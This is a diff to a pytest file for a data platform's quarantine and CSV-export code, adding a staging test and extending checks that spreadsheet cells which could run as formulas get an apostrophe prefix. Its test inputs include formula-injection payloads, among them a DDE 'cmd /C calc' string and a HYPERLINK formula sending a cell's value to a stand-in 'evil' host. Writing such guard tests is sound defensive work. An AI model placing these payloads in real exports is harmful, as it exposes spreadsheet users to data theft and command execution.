@@ -13,8 +13,8 @@ import pytest
 from data_platform.contracts import STAGED
 from data_platform.errors import PlatformError
 from data_platform.lake import Lake, Stamp
+from data_platform.quality.masking import MASK
 from data_platform.quality.quarantine import (
-    MASK,
     PLACE,
     UNKNOWN,
     by_reason,
@@ -23,6 +23,7 @@ from data_platform.quality.quarantine import (
     masked_rows,
     rows_in_clear,
     spreadsheet_csv,
+    standing,
     waiting,
 )
 from data_platform.sources.config import Source
@@ -88,6 +89,15 @@ def test_partitions_with_rejected_rows_wait_and_others_do_not(lake: Lake) -> Non
     assert [one.table for one in waiting(lake, first=NEXT)] == ["stg_customers"]
     assert [one.table for one in waiting(lake, last=DAY)] == ["stg_orders"]
     assert waiting(lake, entity="products") == []
+
+
+def test_a_day_stands_where_staging_is_of_what_raw_holds(lake: Lake) -> None:
+    stage(lake, "orders", [LINE, LINE | {"order_id": "o2", "quantity": "many"}])
+    stage(lake, "orders", [LINE], day=NEXT)
+    raw = {DAY: Stamp(content="a", rows_delivered=2), NEXT: Stamp(content="b", rows_delivered=9)}
+    raw[NEXT + timedelta(days=1)] = Stamp(content="", delivered=False)
+    lake.promote([lake.write_aside("raw_orders", day, pl.DataFrame(), stamp) for day, stamp in raw.items()])
+    assert standing(lake, ["stg_orders", "stg_customers"]) == {"stg_orders": {DAY}, "stg_customers": set()}
 
 
 def test_an_empty_lake_has_nothing_waiting_and_reads_as_a_frame_without_rows(lake: Lake) -> None:
@@ -300,8 +310,8 @@ def test_no_reason_quotes_a_value(lake: Lake, entity: str) -> None:
 
 @pytest.mark.parametrize(
     "text",
-    ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "\t=1", "\x00=1", "＝1", "＠x",
-     "-", "--5", "-5-5", "-A1", "+1+1", "\t-5", "-5\n=1", "-1.5e3x"],
+    ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "\x00=1", "＝1", "＠x",
+     "-", "--5", "-5-5", "-A1", "+1+1", "-1.5e3x"],
 )  # fmt: skip
 def test_a_cell_that_could_be_a_formula_begins_with_an_apostrophe(text: str) -> None:
     assert cells(text) == ["'" + text]
@@ -309,10 +319,55 @@ def test_a_cell_that_could_be_a_formula_begins_with_an_apostrophe(text: str) -> 
 
 @pytest.mark.parametrize(
     "text",
-    ["-5", "+5", "-5.25", "-5,25", "-.5", "-1.234,50", "-1,234.50", "-1e5", "+1E-5", " -5", "5", "a=b", "a@b", ""],
+    [
+        "-5",
+        "+5",
+        "-5.25",
+        "-5,25",
+        "-.5",
+        "-1.234,50",
+        "-1,234.50",
+        "-1e5",
+        "+1E-5",
+        " -5",
+        "5",
+        "a=b",
+        "a@b",
+        "",
+        "-1,50",
+        "2024-01-05",
+        "2024-01-05T10:00:00+01:00",
+        "a;b",
+        "a; b - c",
+        "one, two",
+        "x | y",
+        "a\tb",
+        "two\nlines",
+    ],
 )
 def test_numbers_and_harmless_texts_stay_as_they_are(text: str) -> None:
     assert cells(text) == [text]
+
+
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ('x;=HYPERLINK("http://evil/?"&A1);y', 'x;\'=HYPERLINK("http://evil/?"&A1);y'),
+        ("x, =1", "x, '=1"),
+        ("x|+1", "x|'+1"),
+        ("x\t @SUM(A1)", "x\t '@SUM(A1)"),
+        ("x;-1", "x;'-1"),
+        ("x\n=1", "x\n'=1"),
+        ('x;"=1', "x;\"'=1"),
+        ("x;＝1", "x;'＝1"),
+        ("=;=;;=", "'=;'=;;'="),
+        ("\t=1", "'\t'=1"),
+        ("\t-5", "'\t'-5"),
+        ("-5\n=1", "'-5\n'=1"),
+    ],
+)
+def test_what_could_be_a_formula_once_the_cell_is_split_is_guarded_within_it(text: str, safe: str) -> None:
+    assert cells(text) == [safe]
 
 
 def cells(text: str) -> list[str]:
